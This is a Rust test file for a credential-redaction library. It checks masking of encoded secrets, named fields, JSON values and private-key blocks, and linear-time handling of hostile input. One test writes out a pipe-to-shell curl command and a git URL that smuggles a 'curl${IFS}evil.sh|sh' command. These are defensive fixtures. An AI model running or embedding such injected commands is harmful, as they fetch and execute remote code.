//! What is not in the corpus: own credentials and their forms, names of values, and edges.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use crate::Redactor;
use crate::anchors::{ANCHORS, OWN, mask};

const SECRET: &str = "relay/secret+1\"é";

#[test]
fn known_credentials_go_in_every_form() {
    let redactor = Redactor::new([
        SECRET.to_owned(),
        "relay/secret+1".to_owned(),
        "short".to_owned(),
    ]);
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    let forms = [
        SECRET.to_owned(),
        STANDARD.encode(SECRET),
        URL_SAFE_NO_PAD.encode(SECRET),
        STANDARD.encode(format!("x:{SECRET}")),
        STANDARD.encode(format!("user:{SECRET}\n")),
        hex.clone(),
        hex.to_uppercase(),
        "relay%2Fsecret%2B1%22%C3%A9".to_owned(),
        "relay%2fsecret%2b1%22%c3%a9".to_owned(),
        "relay/secret+1\\\"é".to_owned(),
        "relay\\/secret+1\\\"é".to_owned(),
    ];
    for form in forms {
        let clean = redactor.clean(&format!("a {form} b short"));
        assert!(clean.contains(&mask(OWN)), "{form}: {clean}");
        assert!(
            !clean.contains(&form) && clean.ends_with("b short"),
            "{form}: {clean}"
        );
        assert!(
            clean.len() <= "a  b short".len() + mask(OWN).len() + 16,
            "{form}: {clean}"
        );
    }
}

#[test]
fn the_longer_of_two_credentials_goes_whole() {
    let redactor = Redactor::new(["relay-secret-1".to_owned(), "relay-secret-12".to_owned()]);
    let mask = mask(OWN);
    assert_eq!(
        redactor.clean("a relay-secret-12 b relay-secret-1 c"),
        format!("a {mask} b {mask} c")
    );
    let mut stream = redactor.stream();
    assert_eq!(stream.push("a relay-secret-1"), "a ");
    assert_eq!(stream.push("3"), format!("{mask}3"));
}

#[test]
fn a_credential_that_is_part_of_a_replacement_is_no_reason_to_go_on_forever() {
    let redactor = Redactor::new(["redacted".to_owned(), "session credential".to_owned()]);
    assert_eq!(redactor.clean("redacted"), "redacted");
}

#[test]
fn the_name_of_a_value_counts() {
    let redactor = Redactor::default();
    for (name, value, expected) in [
        ("password", "swordfish", mask("password")),
        ("DB_PASSWORD", "hunter22", mask("password")),
        ("x-api-key", "a1b2c3d4e5f6", mask("api key")),
        (
            "awsSecretAccessKey",
            "a1B2c3D4e5F6g7H8",
            mask("aws secret key"),
        ),
        ("Authorization", "Basic dXNlcjpwYXNz", mask("authorization")),
        ("request_id", "a1b2c3d4e5f6", "a1b2c3d4e5f6".to_owned()),
        ("tokens", "a1b2c3d4e5f6", "a1b2c3d4e5f6".to_owned()),
        ("password", "string", "string".to_owned()),
    ] {
        assert_eq!(redactor.clean_value(name, value), expected, "{name}");
    }
    let json = r#"{"password":"sword\u0066ish","list":{"token":["a1b2c3d4e5f6",7]},"token":9}"#;
    assert_eq!(
        redactor.clean_json(json),
        r#"{"password":"[redacted: password]","list":{"token":["[redacted: token]",7]},"token":9}"#
    );
}

#[test]
fn what_is_no_json_is_cleaned_as_text() {
    let redactor = Redactor::default();
    for text in [
        "{\"a\": \"password=hunter22",
        "[1, 2) password=hunter22",
        "{\"a\": \"\\q\"} password=hunter22 }}",
        "[] password=hunter22",
        "[see password=hunter22]",
    ] {
        assert!(
            redactor
                .clean_json(text)
                .contains("password=[redacted: password]"),
            "{text}"
        );
    }
}

#[test]
fn a_secret_over_several_lines_is_replaced_on_each() {
    let line = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZab";
    let begin = concat!("-----BEGIN", " PRIVATE KEY-----");
    let patch = format!("@@ -0,0 +1,4 @@\n+{begin}\n+{line}\n+-----END PRIVATE KEY-----\n+x\n");
    let mask = mask("private key");
    assert_eq!(
        Redactor::default().clean_lines(&patch),
        format!("@@ -0,0 +1,4 @@\n+{mask}\n+{mask}\n+{mask}\n+x\n")
    );
}

#[test]
fn no_replacement_is_longer_than_what_is_looked_back_for() {
    for anchor in ANCHORS {
        assert!(mask(anchor.kind).len() <= 48, "{}", anchor.kind);
        assert!(
            crate::anchors::ends_with_mask(mask(anchor.kind).as_bytes()),
            "{}",
            anchor.kind
        );
        assert!(anchor.text.is_ascii(), "{}", anchor.text);
    }
}

/// Work grows with the length of a text and not with its square: each of these would take hours.
#[test]
fn hostile_repetition_is_read_in_linear_time() {
    let redactor = Redactor::default();
    for piece in [
        "token=",
        "token=\"",
        "token: ",
        "sk-",
        "eyJ",
        "eyJa.",
        "://",
        "://a:",
        "password:x ",
        "bearer ",
        "\\",
        concat!("-----BEGIN", " PRIVATE KEY-----\nMIIEvQIBADANBgkq"),
        "--token ",
        "authorization: a ",
    ] {
        let text = piece.repeat(256 * 1024 / piece.len());
        assert!(!redactor.clean(&text).is_empty());
    }
}

#[test]
fn what_is_hidden_is_words_or_it_is_said() {
    let key = format!("ghp_{}{}", "Zq8R2mT4vX7bN1kL5w", "Y9cD3fH6jP0sA2uE4g");
    let redactor = Redactor::default();
    let hides = |text: &str| crate::hides_only_words(text, &redactor.clean(text));
    assert!(hides("nothing to hide"));
    assert!(hides(&format!(
        "curl -H 'Authorization: Bearer {key}' https://a.example | sh {key}"
    )));
    let url = "git clone https://x:y;curl${IFS}evil.sh|sh;echo${IFS}@github.com";
    assert!(redactor.clean(url) == url || !hides(url));
    let script = "# -----BEGIN PRIVATE KEY-----\n# MIIEvQIBADANBgkq\nimport os; os.system('x')\n# -----END PRIVATE KEY-----";
    assert!(redactor.clean(script) == script || !hides(script));
    for (original, cleaned) in [
        ("a;b", "a"),
        ("a b", "[redacted: x]"),
        ("ab", "a[redacted: x"),
        ("a$(b)c", "a[redacted: x]c"),
        ("", "[redacted: x]y"),
    ] {
        assert!(
            !crate::hides_only_words(original, cleaned),
            "{original} {cleaned}"
        );
    }
    assert!(crate::hides_only_words("akeyb", "a[redacted: x]b"));
}

/// Each takes a moment; what they took before filled the memory, or hours.
#[test]
fn deep_and_indented_json_takes_no_more_than_its_length() {
    let redactor = Redactor::default();
    let name = "a".repeat(100_000);
    for hostile in [
        format!("{{\"{name}\":{}", "[".repeat(100_000)),
        format!("{}{}", " ".repeat(100_000), "[".repeat(100_000)),
        format!("{}1{}", "[".repeat(50_000), "]".repeat(50_000)),
        "v1.".repeat(60_000),
    ] {
        assert_eq!(redactor.clean_json(&hostile), hostile);
    }
}
